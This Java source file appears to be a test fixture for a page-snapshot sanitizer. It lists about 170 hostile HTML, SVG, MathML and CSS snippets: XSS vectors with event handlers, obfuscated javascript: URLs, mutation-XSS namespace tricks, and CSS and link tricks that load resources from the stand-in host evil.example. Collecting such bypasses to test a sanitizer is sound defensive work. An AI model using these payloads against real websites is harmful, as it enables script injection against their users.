package keeplink.snapshot;

import java.util.List;

/// Pages that try to run something or to load something from elsewhere once they are opened.
final class HostileMarkup {
    static final List<String> PAGES = List.of(
            "<script>alert(1)</script>",
            "<script src=//evil.example/x.js></script>",
            "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
            "<body onload=alert(1) onpageshow=alert(2)>",
            "<html onclick=alert(1)><body>",
            "<p onclick='alert(1)' ONMOUSEOVER=alert(2) oNfocus=alert(3) tabindex=0>x",
            "<img src=x onerror=alert(1)>",
            "<img src='javascript:alert(1)'>",
            "<img/src=`x`/onerror=alert(1)>",
            "<img src=\"x\"onerror=alert(1)//",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=' javascript:alert(1)'>x</a>",
            "<a href='java\tscript:alert(1)'>x</a>",
            "<a href='java\nscript:alert(1)'>x</a>",
            "<a href='&#1;javascript:alert(1)'>x</a>",
            "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
            "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)'>x</a>",
            "<a href=vbscript:msgbox(1)>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<a href='view-source:javascript:alert(1)'>x</a>",
            "<a href=https://ok.example ping=https://evil.example/ping download>x</a>",
            "<area href=javascript:alert(1)>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<META HTTP-EQUIV=\"Refresh\" content=\"0;url=javascript:alert(1)\">",
            "<meta http-equiv=set-cookie content=a=b>",
            "<meta http-equiv=Content-Security-Policy content='script-src *'>",
            "<base href=https://evil.example/ target=_blank><a href=x>x</a>",
            "<object data=https://evil.example/x.swf></object>",
            "<object data='data:text/html,<script>alert(1)</script>'><param name=src"
                    + " value=https://evil.example/></object>",
            "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
            "<embed src='javascript:alert(1)'>",
            "<applet code=Evil archive=https://evil.example/x.jar>x</applet>",
            "<iframe src=https://evil.example/></iframe>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<iframe><script>alert(1)</script></iframe>",
            "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
            "<portal src=https://evil.example/></portal>",
            "<form action=https://evil.example/ method=post target=_blank><input name=a><button"
                    + " formaction=javascript:alert(1)>x</button></form>",
            "<input type=image src=javascript:alert(1) formaction=https://evil.example/>",
            "<isindex action=javascript:alert(1) type=image>",
            "<button form=f formaction=https://evil.example/ formtarget=_blank>x</button><form id=f></form>",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<link rel=import href=https://evil.example/>",
            "<link rel=preload as=script href=https://evil.example/x.js>",
            "<link rel='dns-prefetch preconnect prefetch prerender modulepreload' href=https://evil.example/>",
            "<link rel=manifest href=https://evil.example/m.json>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<style>@\\69mport url(https://evil.example/x.css);</style>",
            "<style>a{b:c} @import url(https://evil.example/x.css);</style>",
            "<style>a{background:url(https://evil.example/x)}</style>",
            "<style>a{background:\\75rl(https://evil.example/x)}</style>",
            "<style>a{background:url('https://evil.example/x'}</style>",
            "<style>a{background:u<!--rl(https://evil.example/x)}</style>",
            "<style>a{background:u/**/rl(https://evil.example/x)}</style>",
            "<style>a{background:u\\\nrl(https://evil.example/x)}</style>",
            "<style>body{background:\\75 /**/rl(\"https://evil.example/a\")}p{background:\\75  rl(https:evil.example/b)}</style>",
            "<style>body{--x:'https://evil.example/c';background:image-set(var(--x) 1x)}p{--y:'https://evil.example/d';"
                    + "background:image-set('/e' var(--z),var(--y) 2x)}</style>",
            "<p style=\"--x:'https://evil.example/f';background:-webkit-image-set(var(--x) 1x)\">x",
            "<style>a{background:image-set('https://evil.example/x' 1x, url(https://evil.example/y) 2x)}</style>",
            "<style>a{background:-webkit-image-set(url(https://evil.example/x) 1x</style>",
            "<style>a{background:src('https://evil.example/x')}</style>",
            "<style>a{background:image('https://evil.example/x')}</style>",
            "<style>@namespace url(https://evil.example/);@charset 'x';</style>",
            "<style>@font-face{font-family:x;src:url(https://evil.example/x)}body{font-family:x}</style>x",
            "<style>a{width:expression(alert(1))}</style>",
            "<style>a{behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml#a)}</style>",
            "<style>a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example/x')}</style>",
            "<style>a{--x:url(https://evil.example/x);background:var(--x)}</style>",
            "<style>a{content:'</style><script>alert(1)</script>'}</style>",
            "<style>a::before{content:'\\3c/style\\3e\\3cscript\\3e alert(1)'}</style>",
            "<style>.\\<\\/style\\>\\<script\\>{a:b}</style>",
            "<style><!--</style><script>alert(1)</script>--></style>",
            "<p style='background:url(https://evil.example/x)'>x",
            "<p style='background:url(&quot;javascript:alert(1)&quot;)'>x",
            "<p style='a:b}@import url(https://evil.example/x);c{d:e'>x",
            "<p style=\"x:expression(alert(1));behavior:url(x)\">x",
            "<table background=https://evil.example/x><td background=javascript:alert(1)>x</table>",
            "<video src=https://evil.example/x poster=https://evil.example/p autoplay onerror=alert(1)><source src=x"
                    + " onerror=alert(1)></video>",
            "<audio src=https://evil.example/x autoplay onloadstart=alert(1)></audio>",
            "<img srcset='https://evil.example/a 1x, javascript:alert(1) 2x' src=https://evil.example/b"
                    + " lowsrc=https://evil.example/c longdesc=https://evil.example/d>",
            "<picture><source srcset=https://evil.example/a><img src=https://evil.example/b></picture>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<svg><script xlink:href=https://evil.example/x.js /></svg>",
            "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
            "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
            "<svg><use href='data:image/svg+xml,<svg id=x"
                    + " xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x' /></svg>",
            "<svg><use xlink:href=https://evil.example/x.svg#y /></svg>",
            "<svg><image xlink:href=https://evil.example/x.png /><feImage href=https://evil.example/y /></svg>",
            "<svg><foreignObject><iframe src=javascript:alert(1)></iframe><body onload=alert(1)></foreignObject></svg>",
            "<svg><style>@import 'https://evil.example/x';a{b:url(https://evil.example/y)}</style></svg>",
            "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>",
            "<svg><style>a{b:'&lt;img src=x onerror=alert(1)>'}</style></svg>",
            "<svg><rect fill='url(https://evil.example/x#a)' style='fill:url(https://evil.example/y)'"
                    + " filter='\\75rl(https://evil.example/z)' /></svg>",
            "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
            "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
            "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
            "<svg><title><style><img title='</style><script>alert(1)</script>'></style></title></svg>",
            "<math><a xlink:href=javascript:alert(1)>x</a><maction actiontype=statusline"
                    + " xlink:href=javascript:alert(1)>x</maction></math>",
            "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
            "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
                    + " onerror=alert(1)&gt;'></mglyph></table></mtext></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src"
                    + " onerror=alert(1)></style></mglyph></form></mtext></math>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
            "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
            "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
            "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
            "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
            "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
            "<plaintext><script>alert(1)</script>",
            "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
            "<div><template shadowrootmode=open><script>alert(1)</script><img src=x"
                    + " onerror=alert(1)><slot></slot></template></div>",
            "<!--><script>alert(1)</script>-->",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<!-- --!><script>alert(1)</script>",
            "<![CDATA[><script>alert(1)</script>]]>",
            "<?xml-stylesheet href=https://evil.example/x.css?>",
            "<p title='\"><script>alert(1)</script>'>x",
            "<p class='\"&gt;&lt;script&gt;alert(1)&lt;/script&gt;' id=\"'><img src=x onerror=alert(1)>\">x",
            "<p data-x='\" onclick=alert(1) ' aria-label='\"><script>alert(1)</script>'>x",
            "<p \"onclick=alert(1) =x x=\"y\">x",
            "<x-y onclick=alert(1) is=z></x-y><evil onclick=alert(1)>x</evil>",
            "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
            "<select><style></select><script>alert(1)</script></style></select>",
            "<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></svg></table>",
            "<b><p><table><style><a title='</style><img src=x onerror=alert(1)>'>",
            "<bgsound src=https://evil.example/x><basefont onclick=x><keygen autofocus onfocus=alert(1)>",
            "<marquee onstart=alert(1) behavior=url(x)>x</marquee><details open ontoggle=alert(1)>x</details>",
            "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\""
                    + " onload=\"alert(1)\"><script>alert(1)</script></svg>'>",
            "<img src='data:text/html,<script>alert(1)</script>'>",
            "<image src=x onerror=alert(1)>",
            "<iframe srcdoc='<p onclick=alert(1)>x<script>alert(1)</script><img src=https://evil.example/x><a"
                    + " href=javascript:alert(1)>y</a><base href=https://evil.example/>'></iframe>",
            "<iframe srcdoc=\"<p>x<style>a{b:'&quot;>&lt;/style><script>alert(1)&lt;/script>'}</style>\""
                    + " sandbox='allow-scripts allow-same-origin allow-top-navigation' allow=autoplay></iframe>",
            "<iframe srcdoc='<p>x<iframe srcdoc=&quot;<p>y<script>alert(1)</script>&quot;></iframe>'"
                    + " onload=alert(1)></iframe>",
            "<iframe srcdoc='<meta http-equiv=refresh content=0;url=https://evil.example/><p>x'></iframe>",
            "<iframe src='data:text/html,<p>x<script>alert(1)</script>'></iframe>",
            "<video src='data:video/webm;base64,GkXfow==' autoplay onplay=alert(1) controls controlslist=x></video>",
            "<x-y href=javascript:alert(1) action=evil src=evil.png style='background:url(//evil.example/x)'"
                    + " onfoo-bar=alert(1)>x</x-y>",
            "<p x-on-click=alert(1) on-click=alert(1) http-equiv=refresh data-src=//evil.example/x>x</p>",
            "<style>@namespace svg url(https://evil.example/);@namespace 'https://evil.example/';@namespace x"
                    + " \"http://www.w3.org/2000/svg\" url(https://evil.example/);</style>",
            "<style>@media print{a{b:url(https://evil.example/x)}}@media print{@import"
                    + " 'https://evil.example/x';</style>",
            "<canvas onclick=alert(1)><script>alert(1)</script><img src=https://evil.example/x></canvas>",
            "<link rel=icon href=https://evil.example/x.ico><link rel=apple-touch-icon"
                    + " href='javascript:alert(1)'><link rel=mask-icon href=https://evil.example/m.svg>",
            "<img data-src='javascript:alert(1)' data-srcset='https://evil.example/x 1x' lazy-src=//evil.example/y>",
            "<object data='data:image/svg+xml,<svg"
                    + " xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>'></object>",
            "<svg><foreignObject><p onclick=alert(1)><math><mi xlink:href=javascript:alert(1)><svg"
                    + " onload=alert(1)></svg></mi></math></foreignObject></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s /><animateMotion onend=alert(1) /><discard"
                    + " onbegin=alert(1) /></svg>",
            "<svg><mask id=m><image href='https://evil.example/m' /></mask><g"
                    + " style='mask:url(https://evil.example/m.svg#m)' marker-start=url(https://evil.example/n)"
                    + " cursor='url(https://evil.example/c),auto' /></svg>",
            "<button popovertarget=p popovertargetaction=show command=show-modal commandfor=d>x</button><dialog"
                    + " id=d><form method=dialog action=https://evil.example/></form></dialog>",
            "<details open><summary>x</summary><object type=text/html data=https://evil.example/></object></details>",
            "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/\"]}]}</script><script"
                    + " type=importmap>{}</script>",
            "<a href=https://ok.example attributionsrc=https://evil.example/ target=_blank rel=opener>x</a><img src=x"
                    + " attributionsrc=https://evil.example/>",
            "<style>a{background:url(\"//evil.example/x\")}b{background:url(\\\\evil.example/x)}</style><p"
                    + " style=\"background:url('\\\\evil.example\\x')\">x",
            "<style>@property"
                    + " --x{syntax:'<url>';inherits:false;initial-value:url(https://evil.example/x)}@counter-style"
                    + " c{system:fixed;symbols:url(https://evil.example/y)}@font-feature-values"
                    + " x{a{b:url(https://evil.example/z)}}@view-transition{types:url(https://evil.example/w)}</style>",
            "<style>a{background:cross-fade(url(https://evil.example/x),'https://evil.example/y');shape-outside:url(https://evil.example/z);b:-webkit-cross-fade(url(https://evil.example/1),url(//evil.example/2),50%);content:image(ltr"
                    + " 'https://evil.example/3');list-style:url(https://evil.example/4);border-image:paint(x,url(https://evil.example/5))}</style>",
            "<style>@import '/main.css' supports(a:b) screen progid(x);@import '/main.css'"
                    + " supports(width:expression(alert(1)));@import '/main.css' expression(alert(1));@import '/main.css'"
                    + " supports(background:image-set('https://evil.example/x' 1x));</style>",
            "<b marker-start=url(https:evil.example/x#a) clip-path=url(https:evil.example/y#a)>x</b>",
            "<b><p><table><a title=\"javascript:'</style><img src=x onerror=alert(1)>'\">",
            "<annotation-xml encoding=text/html><style><!--</style><img"
                    + " src=https://evil.example/x></annotation-xml><font-face-uri href=https://evil.example/y>",
            "<style>a{background:filter('https://evil.example/x',blur(1px))}b{background:-webkit-cross-fade('//evil.example/y',var(--z),50%)}</style>",
            "<style>a{background:image-set(x'https://evil.example/x' 1x,'#y' 2x)}b{background:image-set(\\75'https://evil.example/y'}c{b:image-set(&'x',@'x',\\,'x'</style>",
            "<style>body{--x:'https://evil.example/x';background:image-set([] image-set(var(--x) 1x) 1x)}</style>",
            "<svg><g values=javascript:alert(1) /></svg>",
            "<x-y autoplay controls download cite=evil values=evil srcdoc=evil><p>x</x-y>");

    private HostileMarkup() {}
}
